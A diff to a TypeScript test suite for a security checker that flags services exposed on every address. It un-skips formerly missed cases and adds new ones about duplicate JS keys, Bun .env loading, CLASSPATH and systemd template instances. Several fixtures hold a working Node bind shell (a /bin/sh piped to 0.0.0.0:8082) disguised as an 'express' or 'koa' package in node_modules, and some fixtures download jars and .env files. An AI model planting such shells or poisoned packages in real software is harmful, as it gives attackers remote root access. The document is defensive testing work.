@@ -65,8 +65,6 @@ const JAVA_MAIN_CALLS_SRV = [
     "    public static void main(String[] a) throws Exception { Srv.start(); }",
     "}",
 ];
-/** A known miss: skipped unless REDTEAM_ALL=1 (nodeBuilders describeNodeCases). */
-const miss = (c: NodeCase): NodeCase => ({ ...c, skip: true });
 const DOWNLOAD_AGENT = "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/a.jar https://artifacts.example.com/a.jar";
 
 const insecure: NodeCase[] = [
@@ -92,68 +90,62 @@ const insecure: NodeCase[] = [
         ]),
     ),
     // ECMAScript "Object Initializer" (duplicate property names allowed since ES2015; the last definition wins).
-    // MISS: JS-OBJECT-LAST-WINS (insecure). ECMAScript 2015+ "Object Initializer" / PropertyDefinitionEvaluation: a
+    // Was a MISS (fixed in round 77): JS-OBJECT-LAST-WINS (insecure). ECMAScript 2015+ "Object Initializer" / PropertyDefinitionEvaluation: a
     // duplicate property name is allowed (also in strict mode) and the LAST definition wins, so host is "0.0.0.0": a
     // kubeconfig-reading file server on every address. The pack accepts: javascript.ts jsProperty returns the FIRST
     // `host:` item. Fix: jsProperty takes the last matching item, and any spread (`...x`), getter/setter, computed key
     // (`[k]:`) or shorthand after it makes the property unknown (fail closed).
-    miss(
-        dev(
-            'unit runs node a.js; server.listen({ host: "127.0.0.1", port: 8081, host: "0.0.0.0" })',
-            script("dev-nsec4-rt77n", [
-                ...file(
-                    "/opt/ops/a.js",
-                    nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, host: "0.0.0.0" });']),
-                ),
-                ...nodeUnit(),
-            ]),
-        ),
+    dev(
+        'unit runs node a.js; server.listen({ host: "127.0.0.1", port: 8081, host: "0.0.0.0" })',
+        script("dev-nsec4-rt77n", [
+            ...file(
+                "/opt/ops/a.js",
+                nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, host: "0.0.0.0" });']),
+            ),
+            ...nodeUnit(),
+        ]),
     ),
     // ECMAScript spread properties (CopyDataProperties): a later spread overrides host.
-    // MISS: JS-OBJECT-LAST-WINS (insecure), spread: ECMAScript "Object Initializer" spread properties
+    // Was a MISS (fixed in round 77): JS-OBJECT-LAST-WINS (insecure), spread: ECMAScript "Object Initializer" spread properties
     // (CopyDataProperties) define wide's host after the literal, so the server binds 0.0.0.0. javascript.ts jsProperty
     // skips the `...wide` item and returns the literal "127.0.0.1". Fix: as dev-nsec4-rt77n (a spread after the key
     // makes the property unknown; a literal after every spread is fine: dev-nsec6s-rt77n).
-    miss(
-        dev(
-            "unit runs node a.js; listen({ host: 127.0.0.1, port: 8081, ...wide }) with wide.host 0.0.0.0",
-            script("dev-nsec5-rt77n", [
-                ...file(
-                    "/opt/ops/a.js",
-                    nodeServer([
-                        'const wide = { host: "0.0.0.0" };',
-                        'server.listen({ host: "127.0.0.1", port: 8081, ...wide });',
-                    ]),
-                ),
-                ...nodeUnit(),
-            ]),
-        ),
+    dev(
+        "unit runs node a.js; listen({ host: 127.0.0.1, port: 8081, ...wide }) with wide.host 0.0.0.0",
+        script("dev-nsec5-rt77n", [
+            ...file(
+                "/opt/ops/a.js",
+                nodeServer([
+                    'const wide = { host: "0.0.0.0" };',
+                    'server.listen({ host: "127.0.0.1", port: 8081, ...wide });',
+                ]),
+            ),
+            ...nodeUnit(),
+        ]),
     ),
     // Node.js "Modules: CommonJS", "Loading from node_modules folders": require("express") from /opt/ops/a.js looks in
     // /opt/ops/node_modules, then /opt/node_modules: user data wrote "express" there (a root shell on 0.0.0.0).
-    // MISS: NODE-MODULES-WRITTEN (insecure). Node.js "Modules: CommonJS", "Loading from node_modules folders": for
+    // Was a MISS (fixed in round 77): NODE-MODULES-WRITTEN (insecure). Node.js "Modules: CommonJS", "Loading from node_modules folders": for
     // /opt/ops/a.js, require("express") looks in /opt/ops/node_modules, then /opt/node_modules, ... /node_modules, before
     // the global folders: the "express" node loads is the file user data wrote, a root shell on 0.0.0.0:8082. The pack
     // accepts: javascript.ts nodeProgramListeners trusts a package by NAME (NODE_KNOWN_MODULES) and only round 76's
     // NODE_PATH check looks at where it resolves. Fix: resolve every package name through the node_modules chain of the
     // requiring file's directory (and NODE_PATH, $HOME/.node_modules, $HOME/.node_libraries, $PREFIX/lib/node); a
     // package directory user data wrote (or changed) there is read as local code (or unread), not trusted by name.
-    miss(
-        dev(
-            "/opt/node_modules/express/index.js written (0.0.0.0 root shell); /opt/ops/a.js requires express",
-            script("dev-nsec6-rt77n", [
-                ...file("/opt/node_modules/express/index.js", [
-                    'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
-                    "module.exports = () => ({ listen() {} });",
-                ]),
-                ...file("/opt/ops/a.js", [
-                    'const express = require("express");',
-                    "const app = express();",
-                    'app.listen(8081, "127.0.0.1");',
-                ]),
-                ...nodeUnit(),
+    dev(
+        "/opt/node_modules/express/index.js written (0.0.0.0 root shell); /opt/ops/a.js requires express",
+        script("dev-nsec6-rt77n", [
+            ...file("/opt/node_modules/express/index.js", [
+                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
+                "module.exports = () => ({ listen() {} });",
             ]),
-        ),
+            ...file("/opt/ops/a.js", [
+                'const express = require("express");',
+                "const app = express();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
     ),
     // Node.js "Loading from the global folders": "Additionally, Node.js will search in the following list of
     // GLOBAL_FOLDERS: 1: $HOME/.node_modules ..." (HOME=/root given by the unit).
@@ -244,7 +236,7 @@ const insecure: NodeCase[] = [
     ),
     // Bun docs "Environment variables": "Bun reads the following files automatically (listed in order of increasing
     // precedence): .env, .env.production/.env.development/.env.test, .env.local" from the working directory.
-    // MISS: BUN-DOTENV (insecure). Bun docs "Environment variables" / "Set environment variables": "Bun reads the
+    // Was a MISS (fixed in round 77): BUN-DOTENV (insecure). Bun docs "Environment variables" / "Set environment variables": "Bun reads the
     // following files automatically (listed in order of increasing precedence): .env, .env.production/.env.development/
     // .env.test (depending on NODE_ENV), .env.local" (from the working directory; --no-env-file disables it): HOST=0.0.0.0
     // from /opt/ops/.env reaches `process.env.HOST || "127.0.0.1"`, a kubeconfig-reading file server on every address.
@@ -253,15 +245,13 @@ const insecure: NodeCase[] = [
     // does not). Fix: for bun (without --no-env-file), add the variables of the working directory's .env,
     // .env.{production,development,test}, .env.local, .env.*.local files user data wrote (any such file with unknown
     // content, or an unknown working directory: the environment is unknown), as for process.loadEnvFile.
-    miss(
-        dev(
-            "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env HOST=0.0.0.0; listen(HOST || 127.0.0.1)",
-            script("dev-nsec15-rt77n", [
-                ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
-                ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
-                ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
-            ]),
-        ),
+    dev(
+        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env HOST=0.0.0.0; listen(HOST || 127.0.0.1)",
+        script("dev-nsec15-rt77n", [
+            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
+        ]),
     ),
     // Deno docs "deno run": "--env-file[=<FILE>...] Load environment variables from local file ... [default: .env]".
     dev(
@@ -281,7 +271,7 @@ const insecure: NodeCase[] = [
     // ---- javac then java ----
     // JDK "java" / "javac": "-cp ... If -classpath and -cp aren't used and CLASSPATH isn't set, the user class path
     // consists of the current directory": with CLASSPATH exported, Srv comes from the downloaded jar.
-    // MISS: JAVA-CLASSPATH-ENV (insecure). JDK java(1) "-cp/-classpath": "If -classpath and -cp aren't used and
+    // Was a MISS (fixed in round 77): JAVA-CLASSPATH-ENV (insecure). JDK java(1) "-cp/-classpath": "If -classpath and -cp aren't used and
     // CLASSPATH isn't set, the user class path consists of the current directory" (riptutorial "Different ways to
     // specify the classpath": CLASSPATH is used when no -cp is given; -cp takes precedence): `java Main` loads Srv from
     // the downloaded /opt/lib/dep.jar (code nobody read, run as root). The pack accepts: commandServers.ts (the java run's
@@ -289,18 +279,16 @@ const insecure: NodeCase[] = [
     // given as -classpath is refused (dev-nsec23-rt77n). Fix: with no class path option, take the class path from the
     // run's CLASSPATH (exported, unit Environment=, env wrappers; unknown environment: unknown class path) and judge its
     // entries like -cp's (a jar or directory not javac's output: unread code).
-    miss(
-        dev(
-            "export CLASSPATH=/opt/lib/dep.jar:.; javac Main.java && java Main (Srv in the downloaded jar)",
-            javaApp(
-                "dev-nsec17-rt77n",
-                JAVA_MAIN_CALLS_SRV,
-                "javac -proc:none Main.java && nohup java Main >/var/log/ops.log 2>&1 &",
-                [
-                    "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
-                    "export CLASSPATH=/opt/lib/dep.jar:.",
-                ],
-            ),
+    dev(
+        "export CLASSPATH=/opt/lib/dep.jar:.; javac Main.java && java Main (Srv in the downloaded jar)",
+        javaApp(
+            "dev-nsec17-rt77n",
+            JAVA_MAIN_CALLS_SRV,
+            "javac -proc:none Main.java && nohup java Main >/var/log/ops.log 2>&1 &",
+            [
+                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
+                "export CLASSPATH=/opt/lib/dep.jar:.",
+            ],
         ),
     ),
     // java(1) "java Command-Line Argument Files": "@argfiles ... one or more argument files containing options":
@@ -375,58 +363,52 @@ const insecure: NodeCase[] = [
 
     // ---- round 77 (this file) neighbours of the misses above ----
     // Node.js "Loading from node_modules folders": /opt/ops/node_modules first (the program's own directory).
-    // MISS: NODE-MODULES-WRITTEN (insecure), the program's own node_modules (the first directory node looks in). As
+    // Was a MISS (fixed in round 77): NODE-MODULES-WRITTEN (insecure), the program's own node_modules (the first directory node looks in). As
     // dev-nsec6-rt77n.
-    miss(
-        dev(
-            "/opt/ops/node_modules/express/index.js written (0.0.0.0 root shell); a.js requires express",
-            script("dev-nsec24-rt77n", [
-                ...file("/opt/ops/node_modules/express/index.js", [
-                    'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
-                    "module.exports = () => ({ listen() {} });",
-                ]),
-                ...file("/opt/ops/a.js", [
-                    'const express = require("express");',
-                    "const app = express();",
-                    'app.listen(8081, "127.0.0.1");',
-                ]),
-                ...nodeUnit(),
+    dev(
+        "/opt/ops/node_modules/express/index.js written (0.0.0.0 root shell); a.js requires express",
+        script("dev-nsec24-rt77n", [
+            ...file("/opt/ops/node_modules/express/index.js", [
+                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
+                "module.exports = () => ({ listen() {} });",
             ]),
-        ),
+            ...file("/opt/ops/a.js", [
+                'const express = require("express");',
+                "const app = express();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
     ),
     // Node.js "Loading from node_modules folders": the last of the chain is /node_modules.
-    // MISS: NODE-MODULES-WRITTEN (insecure), /node_modules (the last of the chain) with koa. As dev-nsec6-rt77n.
-    miss(
-        dev(
-            "/node_modules/koa/index.js written (0.0.0.0 root shell); /opt/ops/a.js requires koa",
-            script("dev-nsec25-rt77n", [
-                ...file("/node_modules/koa/index.js", [
-                    'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
-                    "module.exports = class { use() {} listen() {} };",
-                ]),
-                ...file("/opt/ops/a.js", [
-                    'const Koa = require("koa");',
-                    "const app = new Koa();",
-                    'app.listen(8081, "127.0.0.1");',
-                ]),
-                ...nodeUnit(),
+    // Was a MISS (fixed in round 77): NODE-MODULES-WRITTEN (insecure), /node_modules (the last of the chain) with koa. As dev-nsec6-rt77n.
+    dev(
+        "/node_modules/koa/index.js written (0.0.0.0 root shell); /opt/ops/a.js requires koa",
+        script("dev-nsec25-rt77n", [
+            ...file("/node_modules/koa/index.js", [
+                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
+                "module.exports = class { use() {} listen() {} };",
             ]),
-        ),
+            ...file("/opt/ops/a.js", [
+                'const Koa = require("koa");',
+                "const app = new Koa();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
     ),
     // Quoted duplicate key ("host" then host): ECMAScript PropertyDefinitionEvaluation, the last wins.
-    // MISS: JS-OBJECT-LAST-WINS (insecure), quoted then bare key: as dev-nsec4-rt77n ("host" and host are one property
+    // Was a MISS (fixed in round 77): JS-OBJECT-LAST-WINS (insecure), quoted then bare key: as dev-nsec4-rt77n ("host" and host are one property
     // name). Fix: as dev-nsec4-rt77n.
-    miss(
-        dev(
-            'listen({ "host": "127.0.0.1", port: 8081, host: "0.0.0.0" })',
-            script("dev-nsec26-rt77n", [
-                ...file(
-                    "/opt/ops/a.js",
-                    nodeServer(['server.listen({ "host": "127.0.0.1", port: 8081, host: "0.0.0.0" });']),
-                ),
-                ...nodeUnit(),
-            ]),
-        ),
+    dev(
+        'listen({ "host": "127.0.0.1", port: 8081, host: "0.0.0.0" })',
+        script("dev-nsec26-rt77n", [
+            ...file(
+                "/opt/ops/a.js",
+                nodeServer(['server.listen({ "host": "127.0.0.1", port: 8081, host: "0.0.0.0" });']),
+            ),
+            ...nodeUnit(),
+        ]),
     ),
     // An accessor property: the getter's value is the host.
     dev(
@@ -466,33 +448,26 @@ const insecure: NodeCase[] = [
         ]),
     ),
     // Bun docs "Environment variables": .env.local is read too (highest precedence).
-    // MISS: BUN-DOTENV (insecure), .env.local and `bun run FILE`. As dev-nsec15-rt77n.
-    miss(
-        dev(
-            "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env.local HOST=0.0.0.0",
-            script("dev-nsec31-rt77n", [
-                ...file("/opt/ops/.env.local", ["HOST=0.0.0.0"]),
-                ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
-                ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun run /opt/ops/a.js"]),
-            ]),
-        ),
+    // Was a MISS (fixed in round 77): BUN-DOTENV (insecure), .env.local and `bun run FILE`. As dev-nsec15-rt77n.
+    dev(
+        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env.local HOST=0.0.0.0",
+        script("dev-nsec31-rt77n", [
+            ...file("/opt/ops/.env.local", ["HOST=0.0.0.0"]),
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun run /opt/ops/a.js"]),
+        ]),
     ),
     // JDK "java": CLASSPATH from the unit's Environment= (systemd.exec(5)), no -cp.
-    // MISS: JAVA-CLASSPATH-ENV (insecure), CLASSPATH from the unit's Environment= (systemd.exec(5)) for
+    // Was a MISS (fixed in round 77): JAVA-CLASSPATH-ENV (insecure), CLASSPATH from the unit's Environment= (systemd.exec(5)) for
     // ExecStart=/usr/bin/java Main. As dev-nsec17-rt77n.
-    miss(
-        dev(
-            "unit Environment=CLASSPATH=/opt/lib/dep.jar:/opt/ops ExecStart=/usr/bin/java Main (Srv in downloaded jar)",
-            script("dev-nsec32-rt77n", [
-                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
-                ...file("/opt/ops/Main.java", JAVA_MAIN_CALLS_SRV),
-                "cd /opt/ops && javac -proc:none -cp /opt/lib/dep.jar:. Main.java",
-                ...systemdUnit("ops", [
-                    "Environment=CLASSPATH=/opt/lib/dep.jar:/opt/ops",
-                    "ExecStart=/usr/bin/java Main",
-                ]),
-            ]),
-        ),
+    dev(
+        "unit Environment=CLASSPATH=/opt/lib/dep.jar:/opt/ops ExecStart=/usr/bin/java Main (Srv in downloaded jar)",
+        script("dev-nsec32-rt77n", [
+            "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
+            ...file("/opt/ops/Main.java", JAVA_MAIN_CALLS_SRV),
+            "cd /opt/ops && javac -proc:none -cp /opt/lib/dep.jar:. Main.java",
+            ...systemdUnit("ops", ["Environment=CLASSPATH=/opt/lib/dep.jar:/opt/ops", "ExecStart=/usr/bin/java Main"]),
+        ]),
     ),
     // java(1): the class path option given twice, the last one is used.
     dev(
@@ -542,6 +517,142 @@ const insecure: NodeCase[] = [
                 ]),
             ),
             ...nodeUnit(),
+        ]),
+    ),
+    // ---- round 77 fixes: neighbours (fix77-nsec) ----
+    // JS-OBJECT-LAST-WINS: a computed key after the literal (ECMAScript ComputedPropertyName: ["host"] is host).
+    dev(
+        'listen({ host: "127.0.0.1", port: 8081, ["host"]: "0.0.0.0" })',
+        script("dev-nsec37-rt77n", [
+            ...file(
+                "/opt/ops/a.js",
+                nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, ["host"]: "0.0.0.0" });']),
+            ),
+            ...nodeUnit(),
+        ]),
+    ),
+    // JS-OBJECT-LAST-WINS: a getter of the same name after the literal (ECMAScript MethodDefinition get: the accessor
+    // replaces the data property).
+    dev(
+        'listen({ host: "127.0.0.1", port: 8081, get host() { return "0.0.0.0"; } })',
+        script("dev-nsec38-rt77n", [
+            ...file(
+                "/opt/ops/a.js",
+                nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, get host() { return "0.0.0.0"; } });']),
+            ),
+            ...nodeUnit(),
+        ]),
+    ),
+    // NODE-MODULES-WRITTEN: a package tree copied in (content the pack cannot know) on the chain.
+    dev(
+        "cp -r /tmp/pkg /opt/node_modules/express (unknown content); /opt/ops/a.js requires express",
+        script("dev-nsec39-rt77n", [
+            "mkdir -p /tmp/pkg /opt/node_modules && curl -fsSL -o /tmp/pkg/index.js https://artifacts.example.com/e.js",
+            "cp -r /tmp/pkg /opt/node_modules/express",
+            ...file("/opt/ops/a.js", [
+                'const express = require("express");',
+                "const app = express();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
+    ),
+    // NODE-MODULES-WRITTEN: $PREFIX/lib/node, the last global folder (Node.js "Loading from the global folders").
+    dev(
+        "/usr/local/lib/node/express/index.js written (0.0.0.0 root shell); a.js requires express",
+        script("dev-nsec40-rt77n", [
+            ...file("/usr/local/lib/node/express/index.js", [
+                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
+                "module.exports = () => ({ listen() {} });",
+            ]),
+            ...file("/opt/ops/a.js", [
+                'const express = require("express");',
+                "const app = express();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
+    ),
+    // BUN-DOTENV: .env.production (Bun loads it when NODE_ENV=production; the pack reads every NODE_ENV's file).
+    dev(
+        "unit Environment=NODE_ENV=production WorkingDirectory=/opt/ops runs bun a.js; .env.production HOST=0.0.0.0",
+        script("dev-nsec41-rt77n", [
+            ...file("/opt/ops/.env.production", ["HOST=0.0.0.0"]),
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...systemdUnit("ops", [
+                "Environment=NODE_ENV=production",
+                "WorkingDirectory=/opt/ops",
+                "ExecStart=/usr/local/bin/bun /opt/ops/a.js",
+            ]),
+        ]),
+    ),
+    // BUN-DOTENV: a downloaded .env (content the pack cannot know): the environment is unknown.
+    dev(
+        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env downloaded",
+        script("dev-nsec42-rt77n", [
+            "mkdir -p /opt/ops && curl -fsSL -o /opt/ops/.env https://artifacts.example.com/ops.env",
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
+        ]),
+    ),
+    // JAVA-CLASSPATH-ENV: a CLASSPATH value the pack cannot compute (read from a file at boot).
+    dev(
+        'export CLASSPATH="$(cat /opt/ops/cp)"; javac Main.java && java Main (Srv from the class path)',
+        javaApp(
+            "dev-nsec43-rt77n",
+            JAVA_MAIN_CALLS_SRV,
+            "javac -proc:none -cp /opt/lib/dep.jar:. Main.java && nohup java Main >/var/log/ops.log 2>&1 &",
+            [
+                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
+                ...file("/opt/ops/cp", ["/opt/lib/dep.jar:."]),
+                'export CLASSPATH="$(cat /opt/ops/cp)"',
+            ],
+        ),
+    ),
+    // UNIT-SPECIFIER-INSTANCE: two instances, one of them 0.0.0.0 (every instance's value counts).
+    dev(
+        "template ops@.service Environment=HOST=%i; enable ops@127.0.0.1 and ops@0.0.0.0",
+        script("dev-nsec44-rt77n", [
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...file("/etc/systemd/system/ops@.service", [
+                "[Service]",
+                "Environment=HOST=%i",
+                "ExecStart=/usr/bin/node /opt/ops/a.js",
+                "[Install]",
+                "WantedBy=multi-user.target",
+            ]),
+            "systemctl daemon-reload && systemctl enable --now ops@127.0.0.1.service ops@0.0.0.0.service",
+        ]),
+    ),
+    // UNIT-SPECIFIER-INSTANCE: an instance the pack cannot know (a variable).
+    dev(
+        'template ops@.service Environment=HOST=%i; systemctl enable --now "ops@$BIND"',
+        script("dev-nsec45-rt77n", [
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...file("/etc/systemd/system/ops@.service", [
+                "[Service]",
+                "Environment=HOST=%i",
+                "ExecStart=/usr/bin/node /opt/ops/a.js",
+                "[Install]",
+                "WantedBy=multi-user.target",
+            ]),
+            'BIND=$(cat /opt/ops/bind); systemctl daemon-reload && systemctl enable --now "ops@$BIND"',
+        ]),
+    ),
+    // UNIT-SPECIFIER-INSTANCE: systemd.unit(5) DefaultInstance=: `systemctl enable ops@.service` enables ops@0.0.0.0.
+    dev(
+        "template ops@.service Environment=HOST=%i DefaultInstance=0.0.0.0; systemctl enable --now ops@.service",
+        script("dev-nsec46-rt77n", [
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...file("/etc/systemd/system/ops@.service", [
+                "[Service]",
+                "Environment=HOST=%i",
+                "ExecStart=/usr/bin/node /opt/ops/a.js",
+                "[Install]",
+                "WantedBy=multi-user.target",
+                "DefaultInstance=0.0.0.0",
+            ]),
+            "systemctl daemon-reload && systemctl enable --now ops@.service",
         ]),
     ),
 ];
@@ -630,7 +741,7 @@ const secure: NodeCase[] = [
         ]),
     ),
     // systemd.unit(5) %i: ops@127.0.0.1.service gives HOST=127.0.0.1.
-    // MISS: UNIT-SPECIFIER-INSTANCE (secure). systemd.unit(5) "Specifiers" (%i: the instance name, "the part of the
+    // Was a MISS (fixed in round 77): UNIT-SPECIFIER-INSTANCE (secure). systemd.unit(5) "Specifiers" (%i: the instance name, "the part of the
     // instantiated unit name between the "@" character and the type suffix") are expanded in Environment=
     // (systemd.exec(5): "specifier expansion is possible"; RHEL "Important unit specifiers"): ops@127.0.0.1.service gets
     // HOST=127.0.0.1, a loopback server. The pack refuses "createReadStream serving files on every address": "%i" is
@@ -638,21 +749,117 @@ const secure: NodeCase[] = [
     // the instances enabled). Fix: for a template unit, expand %i/%I with each instance user data enables/starts
     // (systemctl enable/start NAME@INSTANCE), every value judged; any other specifier or an unknown instance stays
     // unknown (fail closed: dev-nsec12-rt77n must stay refused).
-    miss(
-        dev(
-            "template ops@.service Environment=HOST=%i; systemctl enable --now ops@127.0.0.1",
-            script("dev-nsec9s-rt77n", [
-                ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
-                ...file("/etc/systemd/system/ops@.service", [
-                    "[Service]",
-                    "Environment=HOST=%i",
-                    "ExecStart=/usr/bin/node /opt/ops/a.js",
-                    "[Install]",
-                    "WantedBy=multi-user.target",
-                ]),
-                "systemctl daemon-reload && systemctl enable --now ops@127.0.0.1.service",
+    dev(
+        "template ops@.service Environment=HOST=%i; systemctl enable --now ops@127.0.0.1",
+        script("dev-nsec9s-rt77n", [
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...file("/etc/systemd/system/ops@.service", [
+                "[Service]",
+                "Environment=HOST=%i",
+                "ExecStart=/usr/bin/node /opt/ops/a.js",
+                "[Install]",
+                "WantedBy=multi-user.target",
             ]),
+            "systemctl daemon-reload && systemctl enable --now ops@127.0.0.1.service",
+        ]),
+    ),
+    // ---- round 77 fixes: secure neighbours (fix77-nsec) ----
+    // JS-OBJECT-LAST-WINS: the last definition is loopback (ECMAScript PropertyDefinitionEvaluation).
+    dev(
+        'listen({ host: "0.0.0.0", port: 8081, host: "127.0.0.1" }) (the last wins)',
+        script("dev-nsec10s-rt77n", [
+            ...file(
+                "/opt/ops/a.js",
+                nodeServer(['server.listen({ host: "0.0.0.0", port: 8081, host: "127.0.0.1" });']),
+            ),
+            ...nodeUnit(),
+        ]),
+    ),
+    // NODE-MODULES-WRITTEN: a package user data wrote in full is read as the program's own code (here no server).
+    dev(
+        "/opt/ops/node_modules/express/index.js written (a stub, no socket); a.js requires express, loopback",
+        script("dev-nsec11s-rt77n", [
+            ...file("/opt/ops/node_modules/express/index.js", ["module.exports = () => ({ listen() {} });"]),
+            ...file("/opt/ops/a.js", [
+                'const express = require("express");',
+                "const app = express();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
+    ),
+    // NODE-MODULES-WRITTEN: a package written beside the chain (/opt/other/node_modules) is not where node looks.
+    dev(
+        "/opt/other/node_modules/express/index.js written (0.0.0.0 shell); /opt/ops/a.js requires express, loopback",
+        script("dev-nsec12s-rt77n", [
+            ...file("/opt/other/node_modules/express/index.js", [
+                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
+                "module.exports = () => ({ listen() {} });",
+            ]),
+            ...file("/opt/ops/a.js", [
+                'const express = require("express");',
+                "const app = express();",
+                'app.listen(8081, "127.0.0.1");',
+            ]),
+            ...nodeUnit(),
+        ]),
+    ),
+    // BUN-DOTENV: --no-env-file (Bun docs "Disabling automatic .env loading"): the .env is not read.
+    dev(
+        "unit WorkingDirectory=/opt/ops runs bun --no-env-file a.js; /opt/ops/.env HOST=0.0.0.0",
+        script("dev-nsec13s-rt77n", [
+            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...systemdUnit("ops", [
+                "WorkingDirectory=/opt/ops",
+                "ExecStart=/usr/local/bin/bun --no-env-file /opt/ops/a.js",
+            ]),
+        ]),
+    ),
+    // BUN-DOTENV: a .env giving loopback.
+    dev(
+        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env HOST=127.0.0.1",
+        script("dev-nsec14s-rt77n", [
+            ...file("/opt/ops/.env", ["HOST=127.0.0.1"]),
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
+        ]),
+    ),
+    // JAVA-CLASSPATH-ENV: -cp overrides CLASSPATH (JDK "Setting the Class Path"), for javac (-proc:none: no annotation
+    // processor from the class path) and java: the downloaded jar is not loaded.
+    dev(
+        "export CLASSPATH=/opt/lib/dep.jar:.; javac -proc:none -cp . Main.java && java -cp . Main 127.0.0.1",
+        javaApp(
+            "dev-nsec15s-rt77n",
+            JAVA_OK_SERVER,
+            "javac -proc:none -cp . Main.java && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
+            [
+                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
+                "export CLASSPATH=/opt/lib/dep.jar:.",
+            ],
         ),
+    ),
+    // JAVA-CLASSPATH-ENV: the unit's CLASSPATH is javac's output only.
+    dev(
+        "javac in user data; unit Environment=CLASSPATH=/opt/ops ExecStart=/usr/bin/java Main 127.0.0.1",
+        script("dev-nsec16s-rt77n", [
+            ...file("/opt/ops/Main.java", JAVA_OK_SERVER),
+            "cd /opt/ops && javac Main.java",
+            ...systemdUnit("ops", ["Environment=CLASSPATH=/opt/ops", "ExecStart=/usr/bin/java Main 127.0.0.1"]),
+        ]),
+    ),
+    // UNIT-SPECIFIER-INSTANCE: %I (the unescaped instance) of ops@127.0.0.1, started by `systemctl start`.
+    dev(
+        "template ops@.service Environment=HOST=%I; systemctl start ops@127.0.0.1",
+        script("dev-nsec17s-rt77n", [
+            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
+            ...file("/etc/systemd/system/ops@.service", [
+                "[Service]",
+                "Environment=HOST=%I",
+                "ExecStart=/usr/bin/node /opt/ops/a.js",
+            ]),
+            "systemctl daemon-reload && systemctl start ops@127.0.0.1",
+        ]),
     ),
 ];
 
